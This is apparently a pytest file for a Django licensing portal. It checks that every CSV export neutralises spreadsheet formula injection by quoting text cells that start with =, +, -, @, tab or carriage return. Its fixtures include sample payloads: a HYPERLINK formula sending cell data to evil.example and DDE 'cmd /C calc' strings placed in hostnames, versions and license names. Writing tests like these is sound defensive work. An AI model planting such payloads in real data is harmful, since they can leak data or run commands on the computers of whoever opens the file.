"""Every CSV export of the portal is safe to open in a spreadsheet (no cell runs as a formula).

Names people and devices choose (Virtual Account names, device hostnames, software versions, event
messages that quote them) reach the exports. A text cell starting with = + - @ tab or carriage return is
written with a leading single quote; numbers the portal computes (a negative balance) stay numbers.
"""

import csv
import io
import re

import pytest
from django.urls import reverse

from licensing.services import register_product_instance
from smartaccounts import services as sa_services
from smartaccounts.exports import FORMULA_PREFIXES, csv_cell
from tests.factories import make_account, make_va
from tests.isolation import all_routes, response_text
from tests.licensing.helpers import deposit, make_license, token_for

pytestmark = pytest.mark.django_db

HOSTILE_VA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
HOSTILE_HOSTNAME = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_VERSION = "+1+cmd|' /C calc'!A0"
HOSTILE_LICENSE = "-2+3+cmd|' /C calc'!A0"
# Text a float() would accept: still text from outside, so it is neutralised like any other.
NUMERIC_LOOKING_HOSTNAME = "-Infinity"


def csv_text(response) -> str:
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    return response_text(response)


def csv_table(response) -> list[list[str]]:
    return parse(csv_text(response))


def parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_a_text_cell_starting_a_formula_is_quoted(prefix):
    assert csv_cell(f"{prefix}1+1") == f"'{prefix}1+1"


def test_numbers_the_portal_computes_stay_numbers_and_other_text_is_untouched():
    assert csv_cell(-3) == -3
    assert csv_cell(2.5) == 2.5
    assert csv_cell("-3") == "'-3"  # text: it came from outside
    assert csv_cell(True) == "True"
    assert csv_cell(None) == ""
    assert csv_cell("sw-lab-01 =x") == "sw-lab-01 =x"
    assert csv_cell("") == ""


@pytest.fixture
def hostile():
    """An account whose people and devices chose names that are spreadsheet formulas."""
    account = make_account(name="Acme Networks", domain="acme.example.com")
    va = make_va(account, HOSTILE_VA)
    lic = make_license(HOSTILE_LICENSE, family="@Family")
    deposit(va, lic, 1)
    for hostname, serial in ((HOSTILE_HOSTNAME, "FOC0000A001"), (NUMERIC_LOOKING_HOSTNAME, "FOC0000A002")):
        register_product_instance(
            token=token_for(va).token,
            pid="C9300-48P",
            serial_number=serial,
            hostname=hostname,
            software_version=HOSTILE_VERSION,
            usage={lic.tag: 1},
        )  # two devices use the one license: the balance is -1
    sa_services.record_event(
        actor=None, smart_account=account, virtual_account=va, action="test.hostile", message="\t=1+1\r"
    )
    return account, va


def _cells(table) -> list[str]:
    return [cell for row in table[1:] for cell in row]


def assert_no_formula_cell(table):
    for cell in _cells(table):
        if cell.startswith(FORMULA_PREFIXES):
            assert re.fullmatch(r"-\d+", cell), f"a cell would run as a formula: {cell!r}"


def test_the_events_csv_neutralises_va_names_and_device_hostnames(client, hostile):
    account, va = hostile
    client.force_login(account.created_by)
    table = csv_table(client.get(reverse("account_events_csv", args=[account.pk])))
    assert table[0] == ["time_utc", "action", "user", "virtual_account", "message", "details"]
    rows = [dict(zip(table[0], row, strict=True)) for row in table[1:]]
    registered = [r for r in rows if r["action"] == "instance.registered"]
    assert {r["virtual_account"] for r in registered} == {"'" + HOSTILE_VA}
    assert any(r["message"].startswith("'" + HOSTILE_HOSTNAME) for r in registered)
    assert any(r["message"].startswith("'" + NUMERIC_LOOKING_HOSTNAME) for r in registered)
    assert [r["message"] for r in rows if r["action"] == "test.hostile"] == ["'\t=1+1\r"]
    assert_no_formula_cell(table)


def test_the_licenses_csv_neutralises_names_but_keeps_a_negative_balance_a_number(client, hostile):
    account, va = hostile
    client.force_login(account.created_by)
    table = csv_table(client.get(reverse("va_licenses_csv", args=[account.pk, va.pk])))
    row = dict(zip(table[0], table[1], strict=True))
    assert (row["License"], row["Product family"]) == ("'" + HOSTILE_LICENSE, "'@Family")
    assert (row["Purchased"], row["In use"], row["Balance"]) == ("1", "2", "-1")
    assert_no_formula_cell(table)


def test_the_instances_csv_neutralises_hostnames_versions_and_va_names(client, hostile):
    account, _ = hostile
    client.force_login(account.created_by)
    table = csv_table(client.get(reverse("instances_csv", args=[account.pk])))
    rows = [dict(zip(table[0], row, strict=True)) for row in table[1:]]
    assert sorted(r["Name"] for r in rows) == sorted(["'" + HOSTILE_HOSTNAME, "'" + NUMERIC_LOOKING_HOSTNAME])
    assert {r["Software version"] for r in rows} == {"'" + HOSTILE_VERSION}
    assert {r["Virtual Account"] for r in rows} == {"'" + HOSTILE_VA}
    assert_no_formula_cell(table)


def test_every_csv_export_of_the_portal_is_neutralised(client, hostile):
    """Any export (today's and those added later): every route ending in .csv, at account and VA level."""
    account, va = hostile
    client.force_login(account.created_by)
    routes = [r for r in all_routes() if r.pattern.endswith(".csv")]
    assert {r.name for r in routes} >= {"account_events_csv", "licenses_csv", "instances_csv", "va_events_csv"}
    for route in routes:
        kwargs = {"account_id": account.pk, "va_id": va.pk}
        assert set(route.kwargs) <= set(kwargs), f"{route.name}: give this test the object its URL names"
        text = csv_text(client.get(reverse(route.name, kwargs={k: kwargs[k] for k in route.kwargs})))
        assert text.startswith("\ufeff"), f"{route.name}: UTF-8 with a byte-order mark"
        table = parse(text)
        assert len(table) > 1, route.name
        assert_no_formula_cell(table)
